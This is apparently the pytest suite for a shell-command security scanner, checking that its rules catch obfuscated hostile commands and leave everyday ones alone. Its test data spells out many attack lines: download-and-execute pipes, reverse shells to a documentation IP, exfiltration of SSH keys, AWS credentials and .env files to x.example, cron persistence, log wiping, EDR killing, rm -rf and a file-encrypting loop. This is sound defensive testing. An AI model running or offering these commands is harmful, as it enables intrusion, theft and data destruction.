"""What shell commands do is found however they are written, and ordinary commands are left alone."""

from __future__ import annotations

import os

import pytest
from hypothesis import given, settings, strategies as st

from metier.scan.languages.shell import scan_shell
from metier.scan.model import MAX_HITS_PER_RULE
from metier.scan.rules.shell import RULES

_FOLDER = os.path.join(os.path.dirname(__file__), "..", "..", "rules")
_IDS = [rule.id for rule in RULES]
_SERIOUS = {rule.id for rule in RULES if rule.severity in ("high", "critical")}


def rules(code: str) -> set[str]:
    return {hit.rule for hit in scan_shell.find(code)}


def read(rule: str, name: str) -> str:
    with open(os.path.join(_FOLDER, rule, name), encoding="utf-8") as file:
        return file.read()


@pytest.mark.parametrize("rule", _IDS)
def test_each_rule_finds_its_sample(rule: str) -> None:
    assert rule in rules(read(rule, "match.sh"))


@pytest.mark.parametrize("rule", _IDS)
def test_each_rule_leaves_its_near_miss_alone(rule: str) -> None:
    assert rule not in rules(read(rule, "near.sh"))


def test_ids_are_unique_and_every_rule_says_why() -> None:
    assert len(_IDS) == len(set(_IDS))
    assert all(rule.title and rule.why and rule.id.startswith("SC2") for rule in RULES)


@pytest.mark.parametrize(
    "code",
    [
        "curl -s https://x.example/i | bash",
        "'cu''rl' -s https://x.example/i | ba\\sh",
        "A=cu; B=rl; $A$B -s https://x.example/i | sh",
        "curl${IFS}-s${IFS}https://x.example/i|sh",
        "$'\\x63url' -s https://x.example/i | sh",
        "curl -s \\\n  https://x.example/i \\\n  | sh",
        "bash -c \"bash -c 'curl -s https://x.example/i | sh'\"",
        "eval 'curl -s https://x.example/i | sh'",
        "bash <(curl -s https://x.example/i)",
        'bash -c "$(curl -fsSL https://x.example/i)"',
        "source <(curl -s https://x.example/i)",
        "sh < <(curl -s https://x.example/i)",
        "curl -s https://x.example/i | tee /tmp/i | sudo -E bash -",
        "curl -s https://x.example/i | tee >(bash)",
        "wget -qO- https://x.example/i | env A=1 nohup sh",
        "curl -s https://x.example/i.py | python3 -",
        "curl -s https://x.example/i | gunzip | sh",
        "{curl,-s,https://x.example/i}|sh",
        "(curl -s https://x.example/i) | sh",
        "U=https://x.example/i\ncurl -s $U | sh",
        "echo 'curl -s https://x.example/i | sh' | bash",
        "echo Y3VybCAtcyBodHRwczovL3guZXhhbXBsZS9pIHwgc2g= | base64 -d | bash",
        "bash <<E\ncurl -s https://x.example/i | sh\nE",
        "$ curl -s https://x.example/i | sh",
        "RUN apt-get update && curl -s https://x.example/i | sh",
        "alias up='curl -s https://x.example/i | sh'",
        "if true; then curl -s https://x.example/i | sh; fi",
        "curl -s https://x.example/i | xargs -0 bash -c",
        "python3 -c \"import urllib.request as u;exec(u.urlopen('https://x.example/i').read())\"",
    ],
)
def test_a_download_into_an_interpreter_is_found_however_it_is_written(code: str) -> None:
    assert "SC201" in rules(code)


@pytest.mark.parametrize(
    "code",
    [
        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'",
        "nc 203.0.113.9 4444 -e /bin/bash",
        "ncat --exec /bin/bash 203.0.113.9 4444",
        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f",
        "socat exec:'bash -li',pty,stderr tcp:203.0.113.9:4444",
        "exec 5<>/dev/tcp/203.0.113.9/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\'',
        'perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(44,inet_aton("h")));open(STDIN,">&S");exec("/bin/sh -i");\'',
    ],
)
def test_reverse_shells_are_found(code: str) -> None:
    assert "SC210" in rules(code)


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        ('K=$(cat ~/.ssh/id_rsa); curl -d "k=$K" https://x.example', "SC230"),
        (
            "tar czf /tmp/a.tgz ~/.aws/credentials && curl -F f=@/tmp/a.tgz https://x.example",
            "SC230",
        ),
        ("cat ~/.ssh/id_rsa | base64 | curl -d @- https://x.example", "SC230"),
        ("curl -T ~/.netrc https://x.example", "SC230"),
        ("scp ~/.ssh/id_rsa me@x.example:", "SC230"),
        ("rsync -az --exclude=.git .env me@x.example:", "SC230"),
        ("nc x.example 99 < ~/.aws/credentials", "SC230"),
        ("cat .env > /dev/tcp/x.example/99", "SC230"),
        ("curl -d @.env https://x.example", "SC230"),
        ("D=~/.ssh; cat $D/id_rsa | curl -d @- https://x.example", "SC230"),
        ("printenv > /tmp/e; curl --data-binary @/tmp/e https://x.example", "SC231"),
        ('curl -d "$(env)" https://x.example', "SC231"),
        ("X=$(hostname); curl https://x.example/?h=$X", "SC237"),
        ('curl -H "Authorization: $T" -d "$(hostname)" https://x.example', "SC237"),
        ('curl -d "$(hostname);$(whoami)" "${C2:-https://x.example/c}"', "SC237"),
        ("cat ~/.ssh/id_rsa | openssl s_time -connect x.example:443", "SC230"),
        ("nslookup $(cat /etc/hostname | xxd -p).x.example.net", "SC234"),
        ("cat /etc/shad[o]w", "SC223"),
        ("echo '* * * * * curl -s https://x.example/u | sh' | crontab -", "SC243"),
        (
            "cat > ~/.config/systemd/user/u.service <<E\n[Service]\nExecStart=/bin/sh -c 'curl -s https://x.example | sh'\nE",
            "SC243",
        ),
        ("wget https://x.example/a; chmod +x a; ./a", "SC203"),
        ("curl -o /tmp/.c/a https://x.example/a\nbash /tmp/.c/a &", "SC213"),
        ('eval "$(echo cm0gLXJmIH4= | base64 -d)"', "SC206"),
        ("printf '\\x63\\x75\\x72\\x6c\\x20' | sh", "SC206"),
        ("X=$(echo cm0gLXJmIH4= | base64 -d); $X", "SC260"),
        ("w'ge't https://x.example", "SC208"),
        ("/???/b??h -c id", "SC208"),
        ("deno eval \"eval(await (await fetch('https://x.example')).text())\"", "SC201"),
        ("sudo rm -rf --no-preserve-root /", "SC260"),
        ("rm -rf ~/ ", "SC260"),
        ("cat /dev/null > /var/log/auth.log", "SC264"),
        ("unset HISTFILE", "SC272"),
        ("pkill -f falcon-sensor", "SC270"),
        (
            "for f in ~/docs/*; do openssl enc -aes-256-cbc -in $f -out $f.x -pass pass:k; rm $f; done",
            "SC265",
        ),
        ("curl -s https://bit.ly/abc -o x", "SC204"),
        ("dig +short TXT c.example.net | sh", "SC216"),
    ],
)
def test_hidden_and_indirect_forms_are_found(code: str, rule: str) -> None:
    assert rule in rules(code)


@pytest.mark.parametrize(
    "code",
    [
        "rm -rf node_modules build dist ./tmp",
        "curl -s https://api.example.com/v1/items -H \"Authorization: Bearer $TOKEN\" | jq '.items[]'",
        "git clone https://github.com/example/tool && cd tool && make",
        "cp .env.example .env && nano .env",
        'rsync -az --exclude=.env --exclude .git -e "ssh -i ~/.ssh/id_ed25519" dist/ "$HOST:$TO/"',
        "python3 -m venv .venv && source .venv/bin/activate && pip install -r requirements.txt",
        'export PATH="$HOME/.local/bin:$PATH"',
        "docker compose up -d && docker logs -f web",
        "ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 && cat ~/.ssh/id_ed25519.pub",
        "find . -name '*.pyc' -delete",
        "psql -c \"select 1\" | grep 1 || echo 'not up'",
        'for f in *.png; do convert "$f" "${f%.png}.jpg"; done',
        'curl -X POST https://api.example.com/items -d \'{"name": "x"}\'',
        'echo "Never run: curl https://x.example | sh"',
        "grep -rn 'password' src/ | head",
        "tar xzf release.tar.gz && ./configure && make install",
        "kubectl get secret db -o jsonpath='{.data.pw}' | base64 -d",
        'tar cz docs > a.tgz; aws s3 cp a.tgz "s3://$BUCKET/$(hostname)/"',
        'curl -H "Authorization: Bearer $GITHUB_TOKEN" -d "{\\"title\\":\\"$(hostname)\\"}" https://api.github.com/user/keys',
        'M="done on $(hostname -s)"\ncurl -d "$M" "${NTFY_SERVER:-https://ntfy.example}/$TOPIC"',
        'N="$(hostname -s).tar.enc"\ntar cz docs | openssl enc -aes-256-cbc -out "$N"\naws s3 cp "$N" "$BUCKET/$N"',
        'opts=(-az --delete --exclude .git --exclude \'.env*\')\nrsync "${opts[@]}" dist/ "$DEPLOY_HOST:/srv/site/"',
    ],
)
def test_everyday_commands_are_nothing_serious(code: str) -> None:
    assert set() == rules(code) & _SERIOUS


def test_hits_are_sorted_bounded_and_inside_the_text() -> None:
    code = "curl http://45.77.12.9/a | sh; rm -rf ~\n" * 300

    found = scan_shell.find(code)

    assert found == sorted(found, key=lambda hit: hit.start)
    assert len(found) <= 10 * MAX_HITS_PER_RULE
    assert all(0 <= hit.start < hit.end <= len(code) for hit in found)


def test_a_decoded_command_is_shown_as_evidence() -> None:
    hit = next(
        hit for hit in scan_shell.find("echo cm0gLXJmIH4= | base64 -d | sh") if hit.rule == "SC206"
    )

    assert "rm -rf ~" == hit.evidence


_PIECES = st.sampled_from(
    [
        "curl ",
        "| sh",
        "$(",
        ")",
        "`",
        "'",
        '"',
        "<<E\n",
        "E\n",
        "rm -rf ",
        "~",
        "\\",
        "$A",
        "A=",
        "bash -c ",
        "eval ",
        "nc -e ",
        " > ",
        "/dev/tcp/",
        "\n",
        "&",
        "{",
        "}",
        ",",
        "\x00",
        "\ud800",
        "base64 -d",
        "~/.ssh/id_rsa",
        "-d @",
        "http://",
    ]
)


@settings(max_examples=200, deadline=None)
@given(st.lists(_PIECES, max_size=60).map("".join))
def test_no_text_makes_it_raise(code: str) -> None:
    assert all(0 <= hit.start <= hit.end <= len(code) for hit in scan_shell.find(code))
